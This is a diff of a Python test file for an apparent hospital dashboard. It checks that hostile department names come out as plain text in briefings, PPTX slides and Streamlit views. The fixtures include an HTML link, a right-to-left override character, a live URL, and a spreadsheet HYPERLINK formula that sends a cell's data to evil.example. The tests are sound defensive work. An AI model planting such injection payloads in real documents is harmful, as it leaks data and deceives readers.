@@ -19,12 +19,13 @@ BOLD = "<b>内分</b><br>泌科"
 RLO = "急诊科\u202e"  # a trailing RIGHT-TO-LEFT OVERRIDE: "61.5 未达 ≥ 90" would read "5.16 达未 ≤ 09"
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"泌尿外科")'
 URL = "https://evil.example/泌尿"  # xlsxwriter makes a string starting with a URL scheme a live link
-HOSTILE = {"T02": LINK, "K01": HUGE, "K05": BOLD, "K20": RLO, "K10": FORMULA, "K06": URL}
+# departments below target in the newest demo quarter, so all six are on the ranking slide (issue 13: only those)
+HOSTILE = {"K10": LINK, "F04": HUGE, "T03": BOLD, "K20": RLO, "K16": FORMULA, "K18": URL}
 
 
 @pytest.fixture
 def hostile(demo_db):
-    """The newest quarter's briefing with five departments renamed (all five are in its ranking)."""
+    """The newest quarter's briefing with six departments renamed (all six are in its ranking)."""
     with store.opened(demo_db) as db:
         for code, name in HOSTILE.items():
             db["departments"].update(code, {"dept_name": name})
@@ -86,7 +87,7 @@ def test_lines_never_carry_a_bidi_override(hostile):
     """12.7: the attention line of a department named with a trailing U+202E reads left to right."""
     lines = briefing.attention_lines(hostile) + briefing.event_lines(hostile) + briefing.conflict_lines(hostile)
     assert not [x for x in lines if "\u202e" in x]
-    line = next(x for x in briefing.attention_lines(hostile) if x.startswith("急诊科"))
+    line = next(x for x in briefing.attention_lines(hostile) if " 急诊科：" in x)
     assert re.search(r"急诊科：患者满意度 \d+\.\d 未达 ≥ 90", line)
 
 
@@ -114,6 +115,9 @@ def test_pptx_holds_no_formula_and_shows_names_literally(hostile):
     categories = list(ranking.plots[0].categories)
     assert any(FORMULA in c for c in categories) and LINK in categories
     text = "\n".join(sh.text_frame.text for s in prs.slides for sh in s.shapes if sh.has_text_frame)
+    text += "\n".join(
+        c.text for s in prs.slides for sh in s.shapes if sh.has_table for r in sh.table.rows for c in r.cells
+    )
     assert "\u202e" not in text and "\u202e" not in json.dumps(categories, ensure_ascii=False)
     assert LINK in text  # a PPTX text run is never markup: the name shows exactly as written
 
@@ -127,13 +131,16 @@ def test_presentation_slides_draw_names_as_text(hostile, demo_db):
     app = str(Path(__file__).resolve().parent.parent / "dashboard.py")
     at = AppTest.from_file(app, default_timeout=90)
     at.switch_page("pages/briefing.py")
-    at.query_params.update(present="1", slide="2")
+    at.query_params.update(present="1", slide="2", quarter=hostile.quarter)
     at.run()
     assert not at.exception, [e.message for e in at.exception]
     (spec,) = [json.loads(c.proto.spec) for c in at.get("plotly_chart")]
-    ticks = spec["data"][0]["x"]
+    ticks = spec["data"][0]["y"]  # horizontal bars: the names are the y categories (issue 13)
     assert '&lt;a href="https://evil.example/x"&gt;放射科&lt;/a&gt;' in ticks and not [x for x in ticks if _markup(x)]
-    for _ in range(3):  # on to slide 5, the departments needing attention
+    for _ in range(4):  # on to slide 6, the departments needing attention
         at.button(key="_brief_next").click().run()
-    lines = [t.value for t in at.text]
-    assert any(x.startswith("急诊科：") for x in lines) and not [x for x in lines if "\u202e" in x]
+    cells = [str(c) for t in at.table for c in t.value.to_numpy().ravel()]
+    rest = [t.value for t in at.text]  # the departments beyond the table, named in one line
+    assert ("急诊科" in cells or any("急诊科、" in x for x in rest)) and not [x for x in cells + rest if "\u202e" in x]
+    tags = [x for x in cells if "<" in x]
+    assert tags and all(x.count("\\<") == x.count("<") for x in tags)  # st.table reads Markdown: every < escaped
